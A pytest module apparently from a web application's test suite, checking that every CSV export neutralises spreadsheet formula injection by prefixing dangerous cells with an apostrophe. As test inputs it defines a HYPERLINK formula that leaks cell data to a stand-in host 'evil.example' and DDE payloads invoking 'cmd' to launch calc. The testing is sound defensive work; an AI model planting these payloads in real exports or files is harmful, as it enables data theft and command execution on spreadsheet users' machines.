"""Every CSV export, walked with names and texts a spreadsheet would read as formulas:
no cell of any export starts with a formula character, and plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import update
from sqlalchemy.orm import Session

from stewardship.assurance.schemas import AnswerWrite
from stewardship.assurance.service import self_assessment
from stewardship.core.auth import Actor
from stewardship.core.csvexport import FORMULA_STARTS, csv_text, neutralise
from stewardship.registry.models import Entity
from stewardship.registry.schemas import OrganizationUpdate
from stewardship.registry.service import organizations
from tests import assurance_world as aw
from tests.factories import SYSTEM

A = "/api/v1/assurance"
ORG_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Fjord")'
ENTITY_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
NARRATIVE = "+1+cmd|' /C calc'!A0"
# Exports whose world another module builds, where the same check is made.
WALKED_ELSEWHERE = {
    "/api/v1/carbon/cbam/imports.csv":
        "tests/api/test_carbon_cbam_api.py::test_the_importer_json_csv_and_page",
}


def _csv_routes(app: FastAPI) -> set[str]:
    """Every path whose answer the OpenAPI document declares as text/csv."""
    found = set()
    for path, operations in app.openapi()["paths"].items():
        for operation in operations.values():
            content = operation.get("responses", {}).get("200", {}).get("content", {})
            if "text/csv" in content:
                found.add(path)
    return found


def test_no_export_cell_starts_with_a_formula(app: FastAPI, db: Session,
                                              client_for: Callable[[Actor], TestClient]
                                              ) -> None:
    w = aw.build(db)
    organizations.update_organization(db, SYSTEM, w.org, OrganizationUpdate(name=ORG_NAME))
    db.execute(update(Entity).where(Entity.id == w.entity_id).values(name=ENTITY_NAME))
    db.expire_all()
    scope = aw.scope(db, w)
    criterion = aw.applicable(scope)[0]
    self_assessment.answer(db, w.admin, scope.self_assessment_id, criterion,
                           AnswerWrite(rating="conformance", narrative=NARRATIVE))
    aw.certify(db, w, scope, minors=1)
    db.flush()

    member = client_for(w.admin)
    urls = {
        f"{A}/certificates/export": f"{A}/certificates/export",
        f"{A}/findings/export": f"{A}/findings/export",
        f"{A}/self-assessments/{{assessment_id}}/export":
            f"{A}/self-assessments/{scope.self_assessment_id}/export",
    }
    # A new export route must be walked here too, or where its world is built.
    assert _csv_routes(app) == set(urls) | set(WALKED_ELSEWHERE)
    for url in urls.values():
        response = member.get(url)
        assert response.status_code == 200, (url, response.text)
        rows = list(csv.reader(io.StringIO(response.text)))
        assert len(rows) > 1, url
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], url
        # The crafted text is all there, behind the apostrophe.
        text = response.text
        if "self-assessments" in url:
            assert f"'{NARRATIVE}" in cells
        else:
            assert f"'{ORG_NAME}" in cells and f"'{ENTITY_NAME}" in cells, (url, text)


def test_the_shared_writer_keeps_numbers_and_quotes_formulas() -> None:
    assert [neutralise(v) for v in ("-12", "+3.5", "-0.25", 7, None, "Fjord")] == [
        "-12", "+3.5", "-0.25", "7", "", "Fjord"]
    assert [neutralise(v) for v in ("=1+1", "-1+2", "+A1", "@SUM(A1)", "\tx", "\r=1",
                                    "-", "--1")] == [
        "'=1+1", "'-1+2", "'+A1", "'@SUM(A1)", "'\tx", "'\r=1", "'-", "'--1"]
    assert csv_text([["a", "=b"], [-3, "c,d"]]) == "a,'=b\r\n-3,\"c,d\"\r\n"
